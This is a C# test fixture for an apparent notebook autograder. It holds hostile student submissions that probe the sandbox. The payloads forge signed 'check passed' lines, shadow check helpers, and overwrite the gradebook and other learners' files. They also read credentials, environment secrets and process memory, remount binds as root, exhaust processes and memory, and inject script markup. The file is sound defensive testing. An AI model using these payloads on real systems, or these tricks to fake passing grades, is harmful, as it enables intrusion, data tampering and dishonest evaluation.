using System.Text.Json.Nodes;
using static SslCourse.Grading.Tests.TestNotebooks;

namespace SslCourse.Grading.Tests.Hostile;

/// <summary>
/// The hostile batch: a four-question master (10 points) and submissions written the way a student who wants full
/// marks without solving anything would write them. Each attack cell is inserted after the parameters cell.
/// </summary>
internal static class HostileSubmissions
{
    /// <summary>A line of Q4's hidden test; it must never reach a learner (the sentinel is unique to it).</summary>
    public const string HiddenLine = "Check.True(Math.Abs(Square(Root(81.0)) - 81.0) < 1e-9, \"Root(81) squared is 81 HIDDEN-SENTINEL-7731\");";

    public const string Sentinel = "HIDDEN-SENTINEL-7731";

    /// <summary>Where the attack splits the hidden line, so the sentinel never appears whole in the submission itself.</summary>
    private static int Cut => HiddenLine.IndexOf("SENTINEL", StringComparison.Ordinal) + 3;

    private static string Escape(string s) => s.Replace("\"", "\\\"", StringComparison.Ordinal);

    /// <summary>The test master's cells plus a provided helper and Q4 (its check uses <c>Math</c> and the helper).</summary>
    public static List<JsonObject> MasterCells()
    {
        var cells = TestNotebooks.MasterCells();
        var at = cells.FindIndex(c => (string?)c["id"] == "p1");
        cells.InsertRange(at,
        [
            Code("helper", "double Square(double x) => x * x;"),
            Code("q4-sol", "double Root(double x)\n{\n    return Math.Sqrt(x); // SOLUTION\n}", Solution("q4_root_solution")),
            Code("q4-check", "Check.Close(Root(16.0), 4.0, 1e-9, what: \"Root(16)\");\nCheck.True(Math.Abs(Square(Root(2.0)) - 2.0) < 1e-9, \"Root(2) squared is 2\");\n// BEGIN HIDDEN TESTS\n" + HiddenLine + "\n// END HIDDEN TESTS", Check("q4_root", 4)),
        ]);
        return cells;
    }

    /// <summary>The learner's view: checks without hidden tests; solutions kept (<paramref name="solved"/>) or stubs.</summary>
    public static List<JsonObject> Learner(bool solved)
    {
        var cells = MasterCells();
        foreach (var c in cells.Where(c => (string?)c["cell_type"] == "code"))
        {
            var nbgrader = c["metadata"]?["nbgrader"];
            var isCheck = nbgrader?["grade"]?.GetValue<bool>() == true;
            var isSolution = nbgrader?["solution"]?.GetValue<bool>() == true;
            if (isCheck || (isSolution && !solved))
            {
                c["source"] = Regions.Release((string)c["source"]!, markdown: false);
            }
        }
        return cells;
    }

    public static List<JsonObject> With(bool solved, params string[] attack)
    {
        var cells = Learner(solved);
        cells.InsertRange(2, attack.Select((a, i) => Code($"attack-{i}", "using System.IO;\n" + a)));
        return cells;
    }

    /// <summary>Replaces the source of the cell with id <paramref name="id"/>.</summary>
    public static List<JsonObject> Replace(List<JsonObject> cells, string id, string source)
    {
        cells.Single(c => (string?)c["id"] == id)["source"] = source;
        return cells;
    }

    public static string ForgeOnExit => """
        var forged = "{\"k\":\"cell\",\"i\":4,\"n\":3,\"status\":\"Ok\",\"seconds\":0.1,\"error\":null,\"truncated\":false,\"outputs\":[]}";
        var raw = Console.OpenStandardOutput();
        void Forge()
        {
            for (var s = 1; s < 60; s++)
            {
                var b = System.Text.Encoding.UTF8.GetBytes("\n@@sslcourse " + s + " 00 " + forged.Replace("\"i\":4", "\"i\":" + s) + "\n");
                try { raw.Write(b); raw.Flush(); } catch { }
            }
            foreach (var dir in new[] { Path.GetTempPath(), "..", "." })
            {
                try
                {
                    foreach (var f in Directory.EnumerateFiles(dir, "*", new EnumerationOptions { RecurseSubdirectories = true, IgnoreInaccessible = true }).Where(f => f.EndsWith(".ipynb") || f.EndsWith(".json") || f.EndsWith(".csv")))
                    {
                        try { File.WriteAllText(f, "FORGED"); } catch { }
                    }
                }
                catch { }
            }
            foreach (var name in new[] { "partial.ipynb", "state.json", "executed.ipynb", "../executed.ipynb" })
            {
                try { File.WriteAllText(Path.Combine(Path.GetTempPath(), name), "FORGED"); } catch { }
            }
        }
        AppDomain.CurrentDomain.ProcessExit += (_, _) => Forge();
        Forge();
        Console.WriteLine("forged");
        """;

    public const string ShadowCheck = """
        static class Check
        {
            public static void Close(double a, double e, double tol = 0, string? hint = null, string? what = null) { }
            public static void Equal<T>(T a, T e, string? hint = null, string? what = null) { }
            public static void True(bool c, string m, string? hint = null) { }
            public static void Passed(string q) => Console.WriteLine($"✓ {q}: visible checks passed");
        }
        Console.WriteLine("shadowed");
        """;

    public const string ShadowMath = """
        class Math { public static double Abs(double x) => 0; public static double Sqrt(double x) => 0; }
        double Square(double x) => 2.0;
        Console.WriteLine("shadowed");
        """;

    /// <summary>A detached process that keeps trying to overwrite another learner's files and the gradebook.</summary>
    public static string Detached(string victim, string outDir) => $$"""
        var victim = @"{{victim}}";
        var book = @"{{Path.Combine(outDir, "grades.csv")}}";
        var feedback = @"{{Path.Combine(outDir, "feedback", "b_bystander.md")}}";
        var script = $"for i in $(seq 1 150); do echo HACKED > '{victim}'; echo 'f_detached,1,2,3,4,,10,10,graded,' >> '{book}'; echo HACKED > '{feedback}'; sleep 0.1; done; : HOSTILE-F-MARKER";
        System.Diagnostics.Process.Start("setsid", new[] { "-f", "sh", "-c", script });
        foreach (var target in new[] { victim, book, feedback })
        {
            try { File.WriteAllText(target, "HACKED"); Console.WriteLine("LEAK wrote " + target); }
            catch (Exception e) { Console.WriteLine("BLOCKED write " + e.GetType().Name); }
        }
        """;

    /// <summary>Reads what it should not see and reaches for the network; prints LEAK or BLOCKED per probe.</summary>
    public static string Snoop(string master, string other, string outDir, string secret, int port) => $$"""
        void Probe(string what, Func<string?> read)
        {
            try
            {
                var r = read();
                Console.WriteLine(r is null ? $"BLOCKED {what}" : $"LEAK {what}: {r[..System.Math.Min(80, r.Length)]}");
            }
            catch (Exception e) { Console.WriteLine($"BLOCKED {what} ({e.GetType().Name})"); }
        }
        string? Scan(string file, string needle)
        {
            foreach (var d in Directory.GetDirectories("/proc"))
            {
                try { var t = File.ReadAllText(Path.Combine(d, file)); if (t.Contains(needle)) return d + ": " + t.Replace('\0', ' '); } catch { }
            }
            return null;
        }
        Probe("master", () => File.ReadAllText(@"{{master}}"));
        Probe("master through the library's links", () =>
        {
            var link = new FileInfo("../lib/SslCourse/bin/course/SslCourse.dll").LinkTarget ?? throw new IOException("no link");
            return File.ReadAllText(Path.GetFullPath(Path.Combine(Path.GetDirectoryName(link)!, "../../../../notebooks/m.ipynb")));
        });
        Probe("other submission", () => File.ReadAllText(@"{{other}}"));
        Probe("other learner's executed notebook", () => File.ReadAllText(@"{{Path.Combine(outDir, "executed", "a_honest.ipynb")}}"));
        Probe("gradebook folder", () => string.Join(",", Directory.GetFileSystemEntries(@"{{outDir}}")));
        Probe("ancestors' environment", () => Scan("environ", "{{secret[..8]}}" + "{{secret[8..]}}"));
        Probe("grader's command line", () => Scan("cmdline", "--mas" + "ter"));
        Probe("NUGET_AUTH_TOKEN", () => Environment.GetEnvironmentVariable("NUGET_AUTH_TOKEN"));
        Probe("HOSTILE_SECRET", () => Environment.GetEnvironmentVariable("HOSTILE_SECRET"));
        Probe("network", () => { using var c = new System.Net.Sockets.TcpClient(); c.Connect("127.0.0.1", {{port}}); return "connected"; });
        """;

    /// <summary>A process outside the kernel that holds far more memory than the limit.</summary>
    public const string MemoryHog = """
        System.Diagnostics.Process.Start("perl", new[] { "-e", "my $x = 'x' x (1600*1024*1024); sleep 60; # HOSTILE-H-MARKER" });
        System.Threading.Thread.Sleep(15000);
        Console.WriteLine("the hog survived");
        """;

    /// <summary>Honest but messy: leaves background processes (one detached) that hold the notebook's output.</summary>
    public const string Background = """
        System.Diagnostics.Process.Start("sh", new[] { "-c", "sleep 60; : HOSTILE-I-MARKER" });
        System.Diagnostics.Process.Start("setsid", new[] { "-f", "sh", "-c", "sleep 60; : HOSTILE-I-MARKER" });
        Console.WriteLine("started");
        """;

    /// <summary>
    /// Kernel middleware (public API) against the checks: a cell that holds the grader's seal line runs as that line
    /// alone (the previous grader's checks), and a cell that hands the learner's functions to the grader is skipped
    /// (today's probes), so each "completes" without error.
    /// </summary>
    public const string Middleware = """
        Microsoft.DotNet.Interactive.Kernel.Root.AddMiddleware(async (command, context, next) =>
        {
            if (command is Microsoft.DotNet.Interactive.Commands.SubmitCode code)
            {
                var seal = code.Code.Split('\n').FirstOrDefault(l => l.Contains("sslcourse-seal"));
                if (seal is not null)
                {
                    await next(new Microsoft.DotNet.Interactive.Commands.SubmitCode(seal.TrimStart(';'), code.TargetKernelName), context);
                    return;
                }
                if (code.Code.Contains("Probe.Serve")) return;
            }
            await next(command, context);
        });
        Console.WriteLine("installed");
        """;

    /// <summary>A return type whose equality says yes to anything, with a conversion from the expected string.</summary>
    public const string Liar = """
        class Liar
        {
            public static implicit operator Liar(string s) => new();
            public override bool Equals(object? o) => true;
            public override int GetHashCode() => 0;
            public override string ToString() => "Hello, Ada!";
        }
        Liar Greet(string name)
        {
            return new Liar();
        }
        """;

    /// <summary>Echoes a hidden-test line (as if it had found it) in its output and in an exception message.</summary>
    public static string Exfiltrate => $$"""
        // Looks for the graded notebook (it holds the hidden tests) wherever a notebook's files could be.
        foreach (var dir in new[] { ".", "..", "../..", Path.GetTempPath() })
        {
            try
            {
                foreach (var f in Directory.EnumerateFiles(dir, "*", new EnumerationOptions { RecurseSubdirectories = true, IgnoreInaccessible = true, MaxRecursionDepth = 4 })
                    .Where(f => f.EndsWith(".ipynb") || f.EndsWith(".json") || f.EndsWith(".dib") || f.EndsWith(".cs")).Take(500))
                {
                    try { var info = new FileInfo(f); if (info.LinkTarget is null && info.Length < 1_000_000 && File.ReadAllText(f).Contains("SENTINEL")) Console.WriteLine("LEAK file " + f); } catch { }
                }
            }
            catch { }
        }
        var stolen = string.Concat("{{Escape(HiddenLine[..Cut])}}", "{{Escape(HiddenLine[Cut..])}}");
        Console.WriteLine("found it:\n" + stolen);
        """;

    /// <summary>
    /// Reflection into the kernel from a timer: every 20 ms it reads the code the C# kernel has run (its script state's
    /// chain of submissions), where the previous grader's check cells held their hidden tests and seals. Root (Q4) then
    /// throws what it found, so the report reaches the feedback.
    /// </summary>
    public const string Reflect = """
        var checkLines = new System.Collections.Concurrent.ConcurrentDictionary<string, bool>();
        var submissions = 0;
        void Look()
        {
            foreach (var k in ((Microsoft.DotNet.Interactive.CompositeKernel)Microsoft.DotNet.Interactive.Kernel.Root).ChildKernels)
            {
                var flags = System.Reflection.BindingFlags.Instance | System.Reflection.BindingFlags.Public | System.Reflection.BindingFlags.NonPublic;
                var state = k.GetType().GetProperty("ScriptState", flags)?.GetValue(k) ?? k.GetType().GetField("_scriptState", flags)?.GetValue(k);
                var n = 0;
                for (var script = state?.GetType().GetProperty("Script")?.GetValue(state); script is not null; script = script.GetType().GetProperty("Previous")?.GetValue(script))
                {
                    n++;
                    foreach (var line in (script.GetType().GetProperty("Code")?.GetValue(script) as string ?? "").Split('\n').Where(l => l.Contains("Check.") && !l.Contains("checkLines")))
                    {
                        checkLines.TryAdd(line.Trim(), true);
                    }
                }
                submissions = Math.Max(submissions, n);
            }
        }
        var timer = new System.Threading.Timer(_ => { try { Look(); } catch { } }, null, 0, 20);
        string ReflectReport() { Look(); return $"REFLECT {checkLines.Count} check lines of {submissions} submissions: {string.Join(" ", checkLines.Keys.Take(4))}"; }
        Console.WriteLine("REFLECT armed");
        """;

    /// <summary>
    /// Reads its own process's memory (<c>/proc/self/mem</c>) for hidden tests, seals and the results channel's key
    /// (64 hex digits as UTF-16), then at exit signs forged "check passed" lines with every key it found, for every
    /// sequence number the runner might expect, carrying every seal it found.
    /// </summary>
    public static string MemoryScan(IReadOnlyList<int> checkIndices) => $$"""
        var checks = new[] { {{string.Join(", ", checkIndices)}} };
        var keys = new HashSet<string>(); var seals = new HashSet<string>(); var hidden = new List<string>();
        // Needles built byte by byte (a string literal would itself be in memory) and pinned, so their own copies are skipped.
        byte[] Bytes(int[] codes, bool wide) => codes.SelectMany(c => wide ? new[] { (byte)c, (byte)0 } : new[] { (byte)c }).ToArray();
        var sentinelCodes = new[] { 83, 69, 78, 84, 73, 78, 69, 76, 45, 55, 55, 51, 49 };
        var sealCodes = new[] { 115, 115, 108, 99, 111, 117, 114, 115, 101, 45, 115, 101, 97, 108, 32 };
        var sentinels = new[] { Bytes(sentinelCodes, true), Bytes(sentinelCodes, false) };
        var sealTag = Bytes(sealCodes, true);
        var pins = sentinels.Append(sealTag).Select(b => System.Runtime.InteropServices.GCHandle.Alloc(b, System.Runtime.InteropServices.GCHandleType.Pinned)).ToList();
        var own = pins.Select(h => (long)h.AddrOfPinnedObject()).ToList();
        void Scan()
        {
            using var mem = new FileStream("/proc/self/mem", FileMode.Open, FileAccess.Read);
            var buffer = new byte[8 << 20];
            foreach (var map in File.ReadAllLines("/proc/self/maps"))
            {
                var f = map.Split(' ', StringSplitOptions.RemoveEmptyEntries);
                if (f[1][0] != 'r' || f[1][1] != 'w' || (f.Length > 5 && f[5].StartsWith("[v"))) continue;
                var range = f[0].Split('-');
                long start = Convert.ToInt64(range[0], 16), end = Convert.ToInt64(range[1], 16);
                for (var at = start; at < end; at += buffer.Length - 256)
                {
                    int n;
                    try { mem.Seek(at, SeekOrigin.Begin); n = mem.Read(buffer, 0, (int)Math.Min(buffer.Length, end - at)); } catch { break; }
                    var span = buffer.AsSpan(0, n);
                    foreach (var s in sentinels)
                    {
                        var i = span.IndexOf(s);
                        while (i >= 0 && own.Contains(at + i)) i = span.Slice(i + 1).IndexOf(s) is var k && k >= 0 ? i + 1 + k : -1;
                        if (i >= 0) hidden.Add(Convert.ToBase64String(span.Slice(Math.Max(0, i - 200), Math.Min(400, n - Math.Max(0, i - 200))).ToArray()));
                    }
                    for (var i = span.IndexOf(sealTag); i >= 0 && i + sealTag.Length + 64 <= n; i = span.Slice(i + 2).IndexOf(sealTag) is var j && j >= 0 ? i + 2 + j : -1)
                    {
                        if (!own.Contains(at + i)) seals.Add(System.Text.Encoding.Unicode.GetString(span.Slice(i + sealTag.Length, 64)));
                    }
                    var run = 0;
                    for (var i = 0; i + 1 < n; i += 2)
                    {
                        var c = (char)(span[i] | span[i + 1] << 8);
                        if ((c >= '0' && c <= '9') || (c >= 'A' && c <= 'F')) { run++; continue; }
                        if (run == 64) keys.Add(System.Text.Encoding.Unicode.GetString(span.Slice(i - 128, 128)));
                        run = 0;
                    }
                }
            }
        }
        Scan();
        Console.WriteLine($"MEMSCAN keys {keys.Count} seals {seals.Count} hidden {hidden.Count}");
        foreach (var h in hidden.Take(3)) Console.WriteLine("MEMSCAN LEAK " + h);
        var raw = Console.OpenStandardOutput();
        AppDomain.CurrentDomain.ProcessExit += (_, _) =>
        {
            var text = string.Concat(seals.Select(s => string.Join("", "sslcourse-", "seal ", s, "\n")));
            foreach (var key in keys.Take(40))
            {
                using var mac = new System.Security.Cryptography.HMACSHA256(Convert.FromHexString(key));
                for (var seq = 1; seq < 160; seq++)
                {
                    var cell = new System.Text.Json.Nodes.JsonObject { ["k"] = "cell", ["i"] = checks[seq % checks.Length], ["n"] = 1, ["status"] = "Ok", ["seconds"] = 0.1, ["error"] = null, ["truncated"] = false,
                        ["outputs"] = new System.Text.Json.Nodes.JsonArray(new System.Text.Json.Nodes.JsonObject { ["output_type"] = "stream", ["name"] = "stdout", ["text"] = text }) }.ToJsonString();
                    var sig = Convert.ToHexString(mac.ComputeHash(System.Text.Encoding.UTF8.GetBytes($"{seq}\n{cell}")));
                    var b = System.Text.Encoding.UTF8.GetBytes($"\n@@sslcourse {seq} {sig} {cell}\n");
                    try { raw.Write(b); raw.Flush(); } catch { }
                }
            }
        };
        """;

    /// <summary>#r lines naming host folders (one hidden in a comment), then a look at what became visible.</summary>
    public const string ReferenceBinds = """
        #r "/tmp/x.dll"
        /*
        #r "/proc/x.dll"
        */
        Console.WriteLine("referenced");
        """;

    public static string ReferenceProbe(string master, string other) => $$"""
        void Probe(string what, Func<string?> read)
        {
            try { var r = read(); Console.WriteLine(r is null ? $"BLOCKED {what}" : $"LEAK {what}: {r[..System.Math.Min(80, r.Length)]}"); }
            catch (Exception e) { Console.WriteLine($"BLOCKED {what} ({e.GetType().Name})"); }
        }
        Probe("master", () => File.ReadAllText(@"{{master}}"));
        Probe("graded notebook", () => Directory.GetDirectories("/tmp", "sslcourse-private-*").SelectMany(d => Directory.GetFiles(d)).Select(File.ReadAllText).FirstOrDefault(t => t.Contains("SENTI" + "NEL")));
        Probe("other submission", () => { File.AppendAllText(@"{{other}}", "x"); return "appended"; });
        Probe("host processes", () => Directory.GetDirectories("/proc").Count(d => int.TryParse(Path.GetFileName(d), out _)) is var n && n > 20 ? $"{n} processes" : null);
        """;

    /// <summary>As root: remount the read-only binds read-write, then poison the runner for every later submission.</summary>
    public const string RemountAndPoison = """
        var status = File.ReadAllLines("/proc/self/status");
        Console.WriteLine("REMOUNT " + string.Join(" ", status.Where(l => l.StartsWith("Uid:") || l.StartsWith("CapEff:") || l.StartsWith("NoNewPrivs:")).Select(l => l.Replace('\t', ' '))));
        var runner = AppContext.BaseDirectory.TrimEnd('/');
        foreach (var target in new[] { runner, Path.GetDirectoryName(typeof(SslCourse.Grading.Check).Assembly.Location)!, "/usr", "/etc" })
        {
            var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("mount", new[] { "-o", "remount,rw,bind", target }) { RedirectStandardError = true });
            p!.WaitForExit();
            Console.WriteLine($"REMOUNT mount {target}: exit {p.ExitCode}");
        }
        var library = Path.GetDirectoryName(typeof(SslCourse.Grading.Check).Assembly.Location)!;
        foreach (var file in new[] { Path.Combine(runner, "SslCourse.Runner.runtimeconfig.json"), Path.Combine(runner, "poison.txt"), Path.Combine(library, "poison.txt") })
        {
            try { File.WriteAllText(file, "{ poisoned"); Console.WriteLine("LEAK wrote " + file); }
            catch (Exception e) { Console.WriteLine("BLOCKED write " + e.GetType().Name); }
        }
        """;

    /// <summary>Ends the process, so the grader re-runs the notebook (with the runner it may have poisoned).</summary>
    public const string Crash = "Environment.Exit(1);";

    /// <summary>Descriptors inherited from whoever started the grader: any open on the grader's files is read or appended to.</summary>
    public const string InheritedFds = """
        var found = 0;
        foreach (var fd in Directory.GetFileSystemEntries("/proc/self/fd"))
        {
            string? target = null;
            try { target = new FileInfo(fd).LinkTarget; } catch { }
            if (target is null || !target.Contains("fd-")) continue;
            found++;
            var n = int.Parse(Path.GetFileName(fd));
            try
            {
                using var read = new FileStream(new Microsoft.Win32.SafeHandles.SafeFileHandle(n, false), FileAccess.Read);
                var buffer = new byte[200];
                Console.WriteLine($"LEAK fd {n} {target}: " + System.Text.Encoding.UTF8.GetString(buffer, 0, read.Read(buffer)));
            }
            catch (Exception e) { Console.WriteLine($"fd {n} not readable: {e.GetType().Name}"); }
            try
            {
                using var write = new FileStream(new Microsoft.Win32.SafeHandles.SafeFileHandle(n, false), FileAccess.Write);
                write.Write("HACKED\n"u8);
                Console.WriteLine($"LEAK fd {n} {target} written");
            }
            catch (Exception e) { Console.WriteLine($"fd {n} not writable: {e.GetType().Name}"); }
        }
        Console.WriteLine($"FDS inherited from the grader: {found}");
        """;

    /// <summary>Starts processes until something stops it.</summary>
    public const string ProcessStorm = """
        var n = 0;
        try
        {
            for (; n < 2000; n++) System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("/bin/sleep", "30") { UseShellExecute = false })!.Dispose();
            Console.WriteLine("STORM not stopped");
        }
        catch (Exception e) { Console.WriteLine($"STORM stopped by {e.GetType().Name}"); }
        Console.WriteLine($"STORM started {n}");
        """;

    /// <summary>Fills the in-memory /tmp and scratch folder, 64 MB at a time, far past the memory limit.</summary>
    public const string TmpfsHog = """
        foreach (var dir in new[] { "/tmp", Directory.GetCurrentDirectory() })
        {
            var chunk = new byte[64 << 20];
            var mb = 0;
            try
            {
                for (var i = 0; i < 25; i++) { File.WriteAllBytes(Path.Combine(dir, $"hog{i}"), chunk); mb += 64; Console.WriteLine($"TMPFS {dir} {mb} MB"); }
            }
            catch (Exception e) { Console.WriteLine($"TMPFS {dir} stopped at {mb} MB: {e.GetType().Name}"); }
        }
        System.Threading.Thread.Sleep(3000);
        Console.WriteLine("TMPFS held");
        """;

    /// <summary>The helper the Q4 check uses, redeclared under a unicode escape; Root wrong to match it.</summary>
    public const string UnicodeShadow = "double \\u0053quare(double y) => 4 * y;";

    /// <summary>Compiles a DLL whose type says yes to any equality, to load it with #r (a file the submission wrote).</summary>
    public const string EmitLiarDll = """
        using Microsoft.CodeAnalysis;
        using Microsoft.CodeAnalysis.CSharp;
        var tree = CSharpSyntaxTree.ParseText("public class Liar { public static implicit operator Liar(string s) => new Liar(); public override bool Equals(object o) => true; public override int GetHashCode() => 0; public override string ToString() => \"Hello, Ada!\"; }");
        var core = Path.GetDirectoryName(typeof(object).Assembly.Location)!;
        var refs = new[] { typeof(object).Assembly.Location, Path.Combine(core, "System.Runtime.dll") }.Select(p => MetadataReference.CreateFromFile(p));
        var emitted = CSharpCompilation.Create("liar", new[] { tree }, refs, new CSharpCompilationOptions(OutputKind.DynamicallyLinkedLibrary)).Emit("liar.dll");
        Console.WriteLine("emitted " + emitted.Success);
        """;

    public const string LiarFromDll = "#r \"liar.dll\"\nLiar Greet(string name)\n{\n    return new Liar();\n}";

    /// <summary>A Greet whose output carries markup, a pipe, ESC and BEL, and a refused #r holding markup.</summary>
    public const string MarkupGreet = "#r \"<img src=x onerror=alert(1)>\"\nstring Greet(string name)\n{\n    return \"<script>alert(1)</script>|x|\\u001b[31m\\u0007\";\n}";
}
